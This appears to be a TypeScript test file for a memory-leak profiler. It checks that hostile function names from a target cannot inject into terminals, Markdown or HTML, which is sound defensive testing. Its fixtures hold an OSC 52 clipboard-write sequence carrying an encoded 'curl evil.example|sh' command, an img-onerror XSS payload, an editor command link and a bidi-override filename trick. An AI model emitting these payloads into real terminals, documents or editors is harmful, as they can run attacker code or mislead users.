// Names from a target or a snapshot are data: control characters never reach a terminal, and
// Markdown never turns them into links, HTML or code that ends early.
import { strict as assert } from 'node:assert';
import { summaryText } from '../../src/cli/checkFormat';
import { buildReport } from '../../src/core/report';
import type { Suspect } from '../../src/core/types';
import { holderLensTitle } from '../../src/extension/format';
import { suspectMarkdown } from '../../src/extension/suspectDetail';
import {
  codeBlock,
  codeSpan,
  escapeHtml,
  escapeMarkdown,
  plainLabel,
  stripControl,
} from '../../src/shared/text';

// OSC 52 (write the clipboard), a colour, a bell, a bidi override: what a hostile function name can hold.
const HOSTILE = 'evil\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[31mred\u202Egnp.exe\r\nnext';
const MD_HOSTILE =
  'x`](command:workbench.action.terminal.new) <img src=x onerror=alert(1)> [a](https://evil.example)';

const suspect = (name: string): Suspect => ({
  rank: 1,
  kind: 'heap',
  functionName: name,
  url: '/proj/server.js',
  line: 3,
  column: 1,
  liveBytes: 1024,
  growthBytesPerMinute: 1024,
  stack: [{ functionName: name, url: '/proj/server.js', line: 3, column: 1 }],
  holder: { kind: 'Map', name, path: ['(GC roots)', `\`\`\`\n${MD_HOSTILE}`, name], count: 2 },
});

describe('text from the target', () => {
  it('strips control characters and bidi overrides for terminals', () => {
    assert.equal(stripControl(HOSTILE), 'evil]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=[31mredgnp.exe next');
    assert.equal(stripControl('plain name'), 'plain name');
  });

  it('prints no control character in the check summary', () => {
    const report = buildReport({
      target: { kind: 'launch' },
      startedAtMs: 0,
      endedAtMs: 60_000,
      samples: [],
      gcEvents: [],
      suspects: [suspect(HOSTILE)],
      verdict: {
        verdict: 'leak',
        growth: { heapBytesPerMinute: 1024, externalBytesPerMinute: 0, confidence: 0.9 },
        reason: 'floor rises',
      },
    });
    const text = summaryText(report, '/proj');
    assert.doesNotMatch(text, /[\x00-\x09\x0b-\x1f\x7f\u202e]/);
    assert.match(text, /evil\]52;c;/);
  });

  it('escapes Markdown and HTML', () => {
    const md = escapeMarkdown(MD_HOSTILE);
    assert.doesNotMatch(md, /(?<!\\)[`<>[\]]/);
    assert.equal(escapeHtml('<b a="1">&\''), '&lt;b a=&quot;1&quot;&gt;&amp;&#39;');
    assert.equal(codeSpan('a``b'), '```a``b```');
    assert.deepEqual(codeBlock(['```', 'x']), ['````text', '```', 'x', '````']);
    assert.equal(plainLabel('$(zap) x\x1b'), '$\u200b(zap) x');
  });

  it('keeps a hostile name inside its code span and block in the suspect detail', () => {
    const md = suspectMarkdown(suspect(MD_HOSTILE), 'api', ['/proj'], () => true);
    // Every backtick run of the name is shorter than the fence around it: nothing escapes into Markdown.
    assert.match(md, /Leak suspect #1: ``x`\]\(command:/);
    assert.match(md, /\n````text\n\(GC roots\)\n/);
    assert.doesNotMatch(md, /\n```\n<img/);
  });

  it('shows no control character in a lens title', () => {
    assert.doesNotMatch(holderLensTitle(suspect(HOSTILE)), /[\x00-\x1f\u202e]/);
  });
});
